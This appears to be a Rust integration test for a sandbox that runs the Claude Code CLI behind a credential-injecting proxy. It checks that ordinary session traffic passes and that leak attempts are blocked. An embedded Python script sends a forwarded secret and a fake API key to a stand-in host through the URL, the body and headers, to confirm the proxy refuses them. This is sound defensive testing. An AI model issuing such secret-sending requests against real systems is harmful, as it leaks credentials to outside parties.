//! The main job, end to end (issues 14 and 8; `#[ignore]`d, run by tests/run.sh with
//! `--ignored`): the real Claude Code CLI answers through the bottle, runs a tool inside
//! it, and a session shaped like Claude Code's (more requests than pipelock's default
//! rate, a stream longer than its default timeout, a 6 MB upload, a compressed answer,
//! a real-format credential) gets through the product's real settings, while the leak
//! checks are refused. The model API is the fake one in the fake internet (api.anthropic.com).

use crate::support::Test;
use crate::support::engine::{self, Bottle, Engine, Internet, leftovers, online};
use crate::support::fake_api::{self, header, requests};
use serde_json::json;
use std::time::Duration;

const T: Duration = Duration::from_secs(240);

/// A finished `bottle run` of [`session`]'s: the fake internet it used, the model key and
/// the forwarded secret it was given, and what it printed.
struct Session {
    net: Internet,
    key: String,
    secret: String,
    out: String,
    err: String,
}

/// Runs `agent` of [`fake_api::manifest`] to its end, as `user` (the test agent image or
/// the one with Claude Code) with a fresh real-format model key and a fresh secret
/// forwarded as `LEAK_TOKEN`; the agent's `command` starts once the fake internet is wired,
/// and the fake API accepts the key and follows `api` (its other settings). The exit code
/// must be 0.
fn session(
    e: &Engine,
    user: fn(&Engine, &str) -> Test,
    agent: &str,
    command: &[&str],
    mut api: serde_json::Value,
) -> Session {
    let key = engine::api_key();
    let secret = engine::secret_value();
    let t = user(e, &fake_api::manifest(agent, &online(command), ""))
        .env("ANTHROPIC_API_KEY", &key)
        .env("BOT_BOTTLE_TEST_SECRET", &secret);
    let bottle = Bottle::spawn(&t, &["run", agent]);
    api["keys"] = json!([key]);
    let config = json!({ "api": api }).to_string();
    let net = Internet::attach_with(e, agent, Some(&config));
    let (code, out, err) = bottle.finish(T);
    assert_eq!(code, 0, "stdout:\n{out}\nstderr:\n{err}");
    Session {
        net,
        key,
        secret,
        out,
        err,
    }
}

/// `claude -p` in the bottle: the answer on stdout, Claude Code's exit code, the model
/// API saw the real key while the agent held the placeholder.
#[test]
#[ignore = "needs a Docker engine; tests/run.sh runs it when one answers"]
fn claude_code_answers_through_the_bottle() {
    let e = engine::engine();
    let agent = "t-claude";
    let command = [
        "sh",
        "-c",
        "echo \"AGENT-HOLDS $ANTHROPIC_API_KEY\" >&2; exec claude -p 'say hi' --dangerously-skip-permissions",
    ];
    let Session {
        net, key, out, err, ..
    } = session(&e, Engine::claude_user, agent, &command, json!({}));
    assert!(
        out.contains("Hello from the fake Anthropic API. The bottle works."),
        "{out}"
    );
    assert!(
        err.contains("AGENT-HOLDS bot-bottle-placeholder-ANTHROPIC_API_KEY"),
        "{err}"
    );
    let messages = requests(&net, "/v1/messages");
    assert!(!messages.is_empty(), "no request reached the model API");
    for m in &messages {
        assert_eq!(header(m, "x-api-key"), Some(key.as_str()), "{m}");
    }
    assert!(!out.contains(&key) && !err.contains(&key));
    assert_eq!(leftovers(agent), Vec::<String>::new());
}

/// A tool round trip: the model asks for `Bash`, Claude Code runs it inside the bottle
/// (as the agent user, where the bottle's CA is installed), sends the result back, and
/// the session ends with the final answer.
#[test]
#[ignore = "needs a Docker engine; tests/run.sh runs it when one answers"]
fn claude_code_runs_a_tool_in_the_bottle_and_finishes() {
    let e = engine::engine();
    let agent = "t-claude-tool";
    let command = [
        "claude",
        "-p",
        "run the check",
        "--dangerously-skip-permissions",
    ];
    let api = json!({
        "script": "tool_use",
        "tool_command": "echo MARKER-$(id -u)-$(head -1 /etc/bot-bottle/mitm-ca.pem | tr -d ' -')"
    });
    let Session { net, out, .. } = session(&e, Engine::claude_user, agent, &command, api);
    let marker = "MARKER-1000-BEGINCERTIFICATE";
    assert!(out.contains(&format!("Tool output: {marker}")), "{out}");
    let bodies: Vec<String> = requests(&net, "/v1/messages")
        .iter()
        .map(|r| r["body"].as_str().unwrap_or_default().to_string())
        .collect();
    assert!(
        bodies
            .iter()
            .any(|b| b.contains("tool_result") && b.contains(marker)),
        "the tool's result never reached the model API"
    );
    assert_eq!(leftovers(agent), Vec::<String>::new());
}

/// What a Claude Code session does to the network, with the product's real settings:
/// everything gets through; and what a leaking agent would do is refused.
const SESSION: &str = r#"
import gzip, json, os, sys, time, requests
S = requests.Session()
key = os.environ['ANTHROPIC_API_KEY']            # the placeholder; mitmproxy injects
secret = os.environ['LEAK_TOKEN']               # a secret the agent does hold
api = 'https://api.anthropic.com/v1/messages'
H = {'x-api-key': key, 'anthropic-version': '2023-06-01', 'content-type': 'application/json'}
body = {'model': 'claude-sonnet-4-5', 'max_tokens': 256,
        'messages': [{'role': 'user', 'content': 'hi'}]}
out = {}
t0 = time.time()
codes = [S.post(api, headers=H, json=body, timeout=60).status_code for _ in range(75)]
out['burst'] = {'n': len(codes), 'ok': codes.count(200), 'seconds': round(time.time() - t0, 1)}
t0 = time.time()
r = S.post(api + '?duration_s=40&interval_ms=500', headers=H,
           json=dict(body, stream=True), stream=True, timeout=120)
events = [l for l in r.iter_lines() if l.startswith(b'event: ')]
out['stream'] = {'status': r.status_code, 'deltas': events.count(b'event: content_block_delta'),
                 'stopped': events[-1:] == [b'event: message_stop'],
                 'seconds': round(time.time() - t0, 1)}
import random
words = 'the agent reads a file then writes a test and runs the build again until it passes'.split()
rng = random.Random(7)
big = ' '.join(rng.choice(words) for _ in range(1_600_000)).encode()[:6 * 1024 * 1024]
r = S.post('https://allowed.test/upload', data=big, headers={'content-type': 'text/plain'}, timeout=300)
out['upload'] = {'status': r.status_code, 'len': r.json().get('len') if r.ok else r.text[:200]}
r = S.post(api, headers=dict(H, **{'accept-encoding': 'gzip'}), json=body, timeout=60)
out['gzip'] = {'status': r.status_code, 'type': r.json().get('type') if r.ok else r.text[:200]}
packed = gzip.compress(json.dumps(body).encode())
r = S.post(api, headers=dict(H, **{'content-encoding': 'gzip'}), data=packed, timeout=60)
out['gzip_body'] = r.status_code
found = 'sk-ant-api03-' + 'Fq8Lm2Np4Rt6Vw8Yb1Cd3Ef5Gh0Jk2Lm4Np6Qr8St0Uv2Wx4Yz6Ab8Cd0Ef2Gh4Ij6Kl8Mn0Op2Qr4St6Uv8Wx0Yz2Ab4Cd' + 'AA'
leaks = {
  'url': lambda: S.get('https://allowed.test/echo?t=' + secret, timeout=30),
  'body': lambda: S.post('https://allowed.test/echo', data='token=' + secret, timeout=30),
  'custom_header': lambda: S.get('https://allowed.test/echo', headers={'X-Debug': secret}, timeout=30),
  'authorization_other_host': lambda: S.get('https://allowed.test/echo', headers={'Authorization': 'Bearer ' + secret}, timeout=30),
  'found_model_key_other_host': lambda: S.get('https://allowed.test/echo', headers={'x-api-key': found}, timeout=30),
}
out['leaks'] = {}
for name, send in leaks.items():
    r = send()
    out['leaks'][name] = {'status': r.status_code, 'body': r.text[:160],
                          'by': r.headers.get('X-Bot-Bottle-Block-Reason')}
r = S.get('https://allowed.test/echo', headers={'x-api-key': key}, timeout=30)
out['placeholder_elsewhere'] = r.status_code
print('SESSION ' + json.dumps(out))
"#;

#[test]
#[ignore = "needs a Docker engine; tests/run.sh runs it when one answers"]
fn a_claude_shaped_session_gets_through_and_the_leak_checks_are_refused() {
    let e = engine::engine();
    let agent = "t-session";
    let Session {
        net,
        key,
        secret,
        out,
        err,
    } = session(
        &e,
        Engine::user,
        agent,
        &["python3", "-c", SESSION],
        json!({}),
    );
    let line = out
        .lines()
        .find_map(|l| l.strip_prefix("SESSION "))
        .unwrap_or_else(|| panic!("{out}\n{err}"));
    let s: serde_json::Value = serde_json::from_str(line).unwrap();
    assert_eq!(s["burst"]["ok"], 75, "more than 60 a minute: {s}");
    assert_eq!(s["stream"]["status"], 200, "{s}");
    assert_eq!(s["stream"]["deltas"], 80, "the 40 s answer was cut: {s}");
    assert_eq!(s["stream"]["stopped"], true, "{s}");
    assert!(s["stream"]["seconds"].as_f64().unwrap() >= 39.0, "{s}");
    assert_eq!(s["upload"]["status"], 200, "{s}");
    assert_eq!(s["upload"]["len"], 6 * 1024 * 1024, "{s}");
    assert_eq!(s["gzip"]["status"], 200, "{s}");
    assert_eq!(s["gzip"]["type"], "message", "{s}");
    assert_eq!(s["gzip_body"], 200, "{s}");
    for (leak, verdict) in s["leaks"].as_object().unwrap() {
        assert_eq!(verdict["status"], 403, "{leak} was not refused: {s}");
        assert!(
            verdict["body"].as_str().unwrap().starts_with("blocked: "),
            "{leak}: {s}"
        );
    }
    assert_eq!(s["placeholder_elsewhere"], 200, "{s}");
    // The model API saw the real key on every request, and nothing leaked anywhere.
    for m in requests(&net, "/v1/messages") {
        assert_eq!(header(&m, "x-api-key"), Some(key.as_str()));
    }
    let seen = net.seen().to_string();
    assert!(!seen.contains(&secret), "a leak reached the origin");
    assert_eq!(leftovers(agent), Vec::<String>::new());
}
